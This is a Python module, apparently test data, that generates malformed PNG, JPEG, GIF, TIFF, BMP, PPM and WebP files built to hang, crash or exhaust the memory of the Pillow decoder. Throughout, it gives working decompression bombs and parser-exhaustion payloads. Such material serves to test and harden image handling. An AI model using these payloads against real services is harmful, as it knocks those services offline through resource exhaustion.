"""Pictures made to hang, crash or fill the memory of whoever decodes them.

`ATTACKS` maps a name to a function that returns the bytes. Each kept Pillow 13.0.0 busy for
seconds or took hundreds of megabytes, or raised something other than OSError.
"""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable

from PIL import Image

Entry = tuple[int, int, int, int | bytes]


def encode(
    format: str, size: tuple[int, int] = (8, 8), mode: str = "RGB", **options: object
) -> bytes:
    """Return a small picture with some content, encoded by Pillow."""
    image = Image.radial_gradient("L").resize(size).convert(mode)
    buffer = io.BytesIO()
    image.save(buffer, format, **options)
    return buffer.getvalue()


def png_chunk(kind: bytes, data: bytes) -> bytes:
    """Return one chunk with its length and checksum."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, pixels: bytes, *, depth: int = 8, before: bytes = b"") -> bytes:
    """Return a grey PNG; `before` are chunks that precede the pixels."""
    header = struct.pack(">IIBBBBB", width, height, depth, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + before
        + png_chunk(b"IDAT", zlib.compress(pixels, 9))
        + png_chunk(b"IEND", b"")
    )


def jpeg_segment(marker: int, data: bytes) -> bytes:
    """Return one marker segment."""
    return bytes((0xFF, marker)) + struct.pack(">H", len(data) + 2) + data


def jpeg_with(segments: bytes) -> bytes:
    """Return a small JPEG with segments put in after its start."""
    plain = encode("JPEG")
    return plain[:2] + segments + plain[2:]


def jpeg_scans(count: int) -> bytes:
    """Return a progressive JPEG of 64 megapixels whose last scan is repeated."""
    buffer = io.BytesIO()
    Image.new("L", (8000, 8000), 90).save(buffer, "JPEG", progressive=True)
    plain = buffer.getvalue()
    last = plain[plain.rindex(b"\xff\xda") : -2]
    return plain[:-2] + last * count + plain[-2:]


def exif_orientation(value: int, *, order: str = "<", kind: int = 3, count: int = 1) -> bytes:
    """Return Exif whose only tag is the orientation."""
    mark = b"II" if order == "<" else b"MM"
    entry = struct.pack(order + "HHIHH", 0x0112, kind, count, value, 0)
    return mark + struct.pack(order + "HIH", 42, 8, 1) + entry + bytes(4)


def gif(blocks: bytes, *, screen: tuple[int, int] = (8, 8), after: bytes = b"") -> bytes:
    """Return a GIF of one 8x8 frame with blocks put in before it."""
    plain = encode("GIF", mode="L")
    flags = plain[10]
    start = 13 + (3 << ((flags & 7) + 1))
    return (
        plain[:6] + struct.pack("<HH", *screen) + plain[10:start] + blocks + plain[start:] + after
    )


def webp_canvas(width: int, height: int) -> bytes:
    """Return an animation of 8x8 frames on a canvas of any size."""
    frames = [Image.new("RGB", (8, 8), color) for color in ("red", "blue")]
    buffer = io.BytesIO()
    frames[0].save(buffer, "WEBP", save_all=True, append_images=frames[1:])
    plain = buffer.getvalue()
    sizes = struct.pack("<I", width - 1)[:3] + struct.pack("<I", height - 1)[:3]
    return plain[:24] + sizes + plain[30:]


def tiff(entries: list[Entry]) -> bytes:
    """Return a TIFF with one directory: tag, type, count, and a value or the bytes of many."""
    place, values, rows = 10 + 12 * len(entries) + 4, b"", b""
    for tag, kind, count, value in entries:
        number = place + len(values) if isinstance(value, bytes) else value
        values += value if isinstance(value, bytes) else b""
        rows += struct.pack("<HHII", tag, kind, count, number)
    return b"II*\0" + struct.pack("<IH", 8, len(entries)) + rows + bytes(4) + values


def grey_tiff(width: int, height: int, *more: Entry) -> bytes:
    """Return an uncompressed 8-bit TIFF without its pixels, and with `more` entries."""
    entries: list[Entry] = [(256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 8)]
    entries += [(259, 3, 1, 1), (262, 3, 1, 1), (277, 3, 1, 1), *more]
    return tiff(sorted(entries))


def rle_bmp(width: int, height: int, runs: bytes) -> bytes:
    """Return an 8-bit BMP with run lengths."""
    start = 14 + 40 + 1024
    sizes = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 8, 1, len(runs), 0, 0, 256, 0)
    head = b"BM" + struct.pack("<IHHI", start + len(runs), 0, 0, start)
    return head + sizes + bytes(1024) + runs


MILLION = 10**6
ATTACKS: dict[str, Callable[[], bytes]] = {
    "png bomb of 10 gigapixels": lambda: png(100_000, 100_000, b""),
    "png of 179 megapixels, of which Pillow only warns": lambda: png(13_000, 13_000, b""),
    "png strip": lambda: png(30_001, 1, b""),
    "png of half a million chunks": lambda: png(
        8, 8, b"", before=png_chunk(b"prIv", b"") * 500_001
    ),
    "jpeg of 1,000 scans": lambda: jpeg_scans(1000),
    "jpeg of 20,000 comments": lambda: jpeg_with(jpeg_segment(0xFE, b"x") * 20_000),
    "gif of a million blocks": lambda: gif(b"\x21\x01" + b"\x01a" * MILLION + b"\0"),
    "gif screen of 4 gigapixels": lambda: gif(b"", screen=(65_535, 65_535)),
    "tiff of 4 million places": lambda: grey_tiff(
        8000, 8000, (273, 1, 4 * MILLION, bytes(4 * MILLION)), (278, 3, 1, 1), (279, 3, 1, 8)
    ),
    "tiff of 2 million colors": lambda: grey_tiff(
        8, 8, (273, 4, 1, 8), (279, 4, 1, 64), (320, 3, 2 * MILLION, bytes(4 * MILLION))
    ),
    "big tiff of 2**60 entries": lambda: b"II+\0\x08\0\0\0" + struct.pack("<QQ", 16, 2**60),
    "bmp of 10 MB of runs": lambda: rle_bmp(8000, 8000, b"\x01\x05" * (5 * MILLION)),
    "bmp upside down of 2**31 rows": lambda: rle_bmp(1, -(2**31), b"\0\1"),
    "ppm of 16 megapixels of 0 to 254": lambda: b"P5 4000 4000 254\n" + bytes(16 * MILLION),
    "ppm of a million comments": lambda: b"P2 2000 1000 255\n" + b"#a\n" * MILLION,
    "ppm of 9 MB of text": lambda: b"P2 3000 1500 255\n" + b"7 " * (4_500_000),
    "ppm whose size comes after 1 MB": lambda: (
        b"P5 #" + b"x" * MILLION + b"\n8 8 255\n" + bytes(64)
    ),
    "ppm of endless digits": lambda: b"P5 " + b"9" * 5000 + b" 8 255\n",
    "webp of 60 megapixels": lambda: webp_canvas(16_000, 3_700),
}
